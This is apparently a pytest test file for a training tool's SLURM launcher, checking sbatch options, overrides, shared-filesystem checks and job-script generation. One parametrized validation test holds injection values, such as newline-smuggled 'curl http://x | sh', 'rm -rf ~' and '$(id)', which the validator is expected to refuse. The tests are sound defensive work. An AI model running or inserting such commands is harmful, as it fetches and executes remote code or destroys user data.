"""The SLURM launcher without a cluster: the sbatch script submitit would write for a spec's slurm: section,
the command-line overrides, and the shared-filesystem check."""
from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml
from submitit.slurm.slurm import _make_sbatch_string

from vitreduce.errors import VitreduceError
from vitreduce.study.slurm import check_shared_filesystem, sbatch_parameters
from vitreduce.study.spec import SlurmOptions, load_spec, parse_spec


def sbatch(options: SlurmOptions, name: str = "paper") -> dict[str, str]:
    """The #SBATCH lines submitit writes, as {option: value}."""
    text = _make_sbatch_string(command="python -m submitit.core._submit /x", folder="/shared/s/slurm/%j",
                               **sbatch_parameters(options, name))
    lines = [line.removeprefix("#SBATCH --") for line in text.splitlines() if line.startswith("#SBATCH --")]
    return dict(line.split("=", 1) if "=" in line else (line, "") for line in lines)


def test_defaults_fit_the_papers_two_gpu_runs():
    lines = sbatch(SlurmOptions())
    assert lines["gpus-per-node"] == "2" and lines["ntasks-per-node"] == "2" and lines["nodes"] == "1"
    assert lines["cpus-per-task"] == "8" and lines["mem"] == "80GB" and lines["time"] == "2880"
    assert lines["signal"] == "USR2@120" and lines["job-name"] == "paper"
    assert "partition" not in lines and "account" not in lines


def test_every_key_of_the_section_reaches_sbatch():
    options = SlurmOptions(nodes=2, gpus_per_node=4, cpus_per_task=12, mem_gb=200, timeout_min=600,
                           signal_delay_s=300, partition="gpu", account="proj", qos="high", constraint="h100",
                           additional={"exclusive": True, "mail_type": "END"}, setup=["module load cuda"])
    lines = sbatch(options)
    assert {k: lines[k] for k in ("nodes", "gpus-per-node", "ntasks-per-node", "cpus-per-task", "mem", "time",
                                   "signal", "partition", "account", "qos", "constraint", "mail-type")} == {
        "nodes": "2", "gpus-per-node": "4", "ntasks-per-node": "4", "cpus-per-task": "12", "mem": "200GB",
        "time": "600", "signal": "USR2@300", "partition": "gpu", "account": "proj", "qos": "high",
        "constraint": "h100", "mail-type": "END"}
    assert "exclusive" in lines
    text = _make_sbatch_string(command="run", folder="/f", **sbatch_parameters(options, "n"))
    assert "module load cuda" in text.split("srun")[0]  # the setup lines run before the tasks


def test_cpu_jobs_have_one_task_and_no_gpu():
    lines = sbatch(SlurmOptions(gpus_per_node=0))
    assert lines["ntasks-per-node"] == "1" and "gpus-per-node" not in lines


def test_cli_flags_and_set_override_the_spec(tmp_path, tiny_train_config):
    path = tmp_path / "spec.yaml"
    path.write_text(yaml.safe_dump({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}],
                                    "slurm": {"partition": "cpu", "qos": "low"}}))
    spec = load_spec(path, ["launcher=slurm", "slurm.partition=gpu", "slurm.additional={exclusive: true}"])
    assert spec.launcher == "slurm" and spec.slurm.partition == "gpu" and spec.slurm.qos == "low"
    assert sbatch(spec.slurm)["partition"] == "gpu"
    with pytest.raises(VitreduceError, match="slurm.partiton"):
        parse_spec({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}],
                    "slurm": {"partiton": "gpu"}})


def test_the_study_directory_must_be_shared(tmp_path):
    mounts = tmp_path / "mounts"
    mounts.write_text("rootfs / overlay rw 0 0\nserver:/home /shared nfs4 rw 0 0\nfs /lus lustre rw 0 0\n")
    assert check_shared_filesystem(Path("/shared/s"), 4, str(mounts)) == "nfs4"
    with pytest.raises(VitreduceError, match="node-local"):
        check_shared_filesystem(tmp_path, 1, str(mounts))  # /tmp: never, whatever the node count
    assert check_shared_filesystem(Path("/lus/user/study"), 2, str(mounts)) == "lustre"
    assert check_shared_filesystem(Path("/home/user/study"), 1, str(mounts)) == "overlay"  # one node: any disk
    with pytest.raises(VitreduceError, match="overlay filesystem"):
        check_shared_filesystem(Path("/home/user/study"), 2, str(mounts))


def test_study_command_flags_reach_the_spec(tmp_path, tiny_train_config):
    from vitreduce.cli.main import main

    path = tmp_path / "spec.yaml"
    path.write_text(yaml.safe_dump({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}]}))
    out = tmp_path / "study"
    assert main(["study", str(path), "--launcher", "slurm", "--slurm-partition", "gpu", "--slurm-nodes", "2",
                 "--dry-run", "--out", str(out)]) == 0
    saved = yaml.safe_load((out / "study.yaml").read_text())
    assert saved["launcher"] == "slurm" and saved["slurm"]["partition"] == "gpu" and saved["slurm"]["nodes"] == 2
    assert main(["study", str(path), "extra"]) == 2  # one SPEC, or `status STUDY_DIR`


@pytest.mark.parametrize(("visible", "expected"), [(1, 0), (2, 1), (4, 1)])
def test_each_rank_takes_the_gpu_of_its_local_rank_among_those_it_sees(monkeypatch, visible, expected):
    """LOCAL_RANK 1 uses cuda:1 where the task sees every GPU of its node, cuda:0 where it sees only its own
    (SLURM --gpus-per-task, cgroups)."""
    import torch

    from vitreduce.train import distributed

    chosen = []
    monkeypatch.setenv("WORLD_SIZE", "2")
    monkeypatch.setenv("RANK", "1")
    monkeypatch.setenv("LOCAL_RANK", "1")
    monkeypatch.setattr(distributed, "resolve_device", lambda device, what: torch.device("cuda"))
    monkeypatch.setattr(torch.cuda, "device_count", lambda: visible)
    monkeypatch.setattr(torch.cuda, "set_device", chosen.append)
    monkeypatch.setattr(distributed.dist, "is_initialized", lambda: True)  # a caller's group: nothing to join
    info = distributed.init("cuda")
    assert info.device == torch.device("cuda", expected) and chosen == [info.device]
    assert (info.rank, info.local_rank, info.world_size, info.owns_group) == (1, 1, 2, False)


def test_submitting_without_slurm_commands_is_refused_naming_them(monkeypatch):
    import shutil

    from vitreduce.study.slurm import check_slurm_commands

    monkeypatch.setattr(shutil, "which", lambda name: "/usr/bin/sbatch" if name == "sbatch" else None)
    with pytest.raises(VitreduceError, match="needs SLURM's srun on the PATH.*--dry-run"):
        check_slurm_commands()
    monkeypatch.setattr(shutil, "which", lambda name: f"/usr/bin/{name}")
    check_slurm_commands()


def test_a_study_that_slurm_cannot_take_is_refused_before_anything_is_written(tmp_path, tiny_train_config,
                                                                               monkeypatch):
    import shutil

    from vitreduce.study.runner import run_study

    spec = parse_spec({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}], "launcher": "slurm"})
    monkeypatch.setattr(shutil, "which", lambda name: None)  # no SLURM here
    with pytest.raises(VitreduceError, match="needs SLURM's sbatch"):
        run_study(spec, tmp_path / "study", echo=lambda line: None)
    monkeypatch.setattr(shutil, "which", lambda name: f"/usr/bin/{name}")  # SLURM, but a study under /tmp
    with pytest.raises(VitreduceError, match="/tmp"):
        run_study(spec, tmp_path / "study", echo=lambda line: None)
    assert not (tmp_path / "study").exists()


def test_a_torchrun_spec_runs_on_slurm_with_as_many_gpus_per_node(tiny_train_config):
    """The paper's spec (launcher: torchrun, nproc_per_node: 2) with --launcher slurm: 2 GPUs per job, as by
    default; a different --slurm-gpus-per-node is refused, naming both keys."""
    paper = yaml.safe_load((Path(__file__).parents[1] / "studies" / "paper_vit_b16_in1k.yaml").read_text())
    assert (paper["launcher"], paper["nproc_per_node"]) == ("torchrun", 2)
    tree = {"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}], "nproc_per_node": 2}
    assert parse_spec({**tree, "launcher": "slurm"}).slurm.gpus_per_node == 2
    with pytest.raises(VitreduceError, match="nproc_per_node 2 and slurm.gpus_per_node 4 disagree"):
        parse_spec({**tree, "launcher": "slurm", "slurm": {"gpus_per_node": 4}})
    assert parse_spec({**tree, "nproc_per_node": 1, "launcher": "slurm", "slurm": {"gpus_per_node": 4}})
    with pytest.raises(VitreduceError, match="needs launcher: torchrun"):
        parse_spec({**tree, "launcher": "python"})


def test_a_slurm_dry_run_prints_each_jobs_sbatch_lines(tmp_path, tiny_train_config):
    from vitreduce.study.runner import run_study

    spec = parse_spec({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}], "launcher": "slurm",
                       "slurm": {"partition": "gpu", "gpus_per_node": 1}})
    lines: list[str] = []
    run_study(spec, tmp_path / "study", dry_run=True, echo=lines.append)
    assert "  #SBATCH --partition=gpu" in lines and "  #SBATCH --gpus-per-node=1" in lines
    assert f"  #SBATCH --output={tmp_path / 'study' / 'slurm'}/%j/%j_0_log.out" in lines


def test_the_dry_run_prints_the_whole_script_submitit_submits(tmp_path, tiny_train_config):
    """Two runs: one job array (%A_%a logs, --array), the task count of a CPU job (1), the setup lines and the
    command srun runs, each line as the script that is submitted has it."""
    from vitreduce.study.runner import run_study
    from vitreduce.study.slurm import job_script

    spec = parse_spec({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}, {"name": "b"}],
                       "launcher": "slurm",
                       "slurm": {"gpus_per_node": 0, "setup": ["source /shared/venv/bin/activate"]}})
    lines: list[str] = []
    run_study(spec, tmp_path / "study", dry_run=True, echo=lines.append)
    script = job_script(spec.slurm, "s", tmp_path / "study", 2)
    assert [line[2:] for line in lines[-len(script.splitlines()):]] == script.splitlines()
    assert "1 task(s) per node" in lines[-len(script.splitlines()) - 1]
    assert "#SBATCH --array=0-1%2" in script and "%A_%a_0_log.err" in script
    assert script.index("source /shared/venv/bin/activate") < script.index("srun")
    assert "-u -m vitreduce.study.slurm_job" in script.split("srun")[-1]


def test_the_job_script_requeues_and_gives_srun_the_cpus(tmp_path):
    """--requeue (a preempted job comes back whatever the cluster's default); srun --cpus-per-task (Slurm
    22.05-23.02 do not pass sbatch's on to srun)."""
    from vitreduce.study.slurm import job_script

    script = job_script(SlurmOptions(cpus_per_task=6), "s", tmp_path, 1)
    assert "#SBATCH --requeue\n" in script
    assert "--cpus-per-task=6" in next(line for line in script.splitlines() if line.startswith("srun"))


@pytest.mark.parametrize(("slurm", "message"), [
    ({"partition": "gpu\ncurl http://x | sh"}, "slurm.partition: 'gpu\\ncurl http://x | sh' is not a SLURM partition"),
    ({"account": "proj; rm -rf ~"}, "slurm.account: 'proj; rm -rf ~' is not a SLURM account"),
    ({"qos": "high\n#SBATCH --x"}, "slurm.qos"),
    ({"constraint": "a100 $(id)"}, "slurm.constraint"),
    ({"additional": {"mail_type\ncurl x | sh": "END"}}, "not an sbatch option name"),
    ({"additional": {"mail_user": "me@x\ncurl x | sh"}}, "must be one line of text"),
    ({"additional": {"output": "/tmp/x"}}, "'output' is set by vitreduce"),
    ({"setup": ["module load cuda\ncurl x | sh"]}, "each setup entry is one shell line"),
    ({"timeout_min": 1, "signal_delay_s": 120}, "signal_delay_s 120 is not shorter than the time limit"),
])
def test_values_that_would_break_the_job_script_are_refused_naming_the_key(tiny_train_config, slurm, message):
    with pytest.raises(VitreduceError, match=re.escape(message)):
        parse_spec({"name": "s", "base": tiny_train_config(), "variants": [{"name": "a"}], "launcher": "slurm",
                    "slurm": slurm})


def test_accepted_values_reach_the_script_quoted(tmp_path):
    from vitreduce.study.slurm import job_script

    options = SlurmOptions(partition="gpu,gpu-long", constraint="a100|h100", account="proj_1",
                           additional={"mail_user": "me@example.org", "comment": "it's mine"})
    script = job_script(options, "s", tmp_path, 1)
    assert "#SBATCH --partition=gpu,gpu-long" in script and "#SBATCH --constraint='a100|h100'" in script
    assert "#SBATCH --comment='it'\"'\"'s mine'" in script


def test_a_submission_without_wait_says_how_many_runs_have_finished(tmp_path, capsys):
    """Submitted without --wait, one run finished before: no report yet, and not 'no run has finished'."""
    from vitreduce.study.launch import Outcome, OutcomeStatus
    from vitreduce.study.runner import StudyResult, print_results

    print_results(StudyResult(tmp_path, [Outcome(None, OutcomeStatus.SKIPPED), Outcome(None, OutcomeStatus.SUBMITTED)]))
    out = capsys.readouterr().out
    assert f"no report yet: 1 of 2 runs of {tmp_path} finished" in out and "vitreduce report" in out
    print_results(StudyResult(tmp_path, [Outcome(None, OutcomeStatus.SUBMITTED)]))
    assert "has finished yet: no report" in capsys.readouterr().out
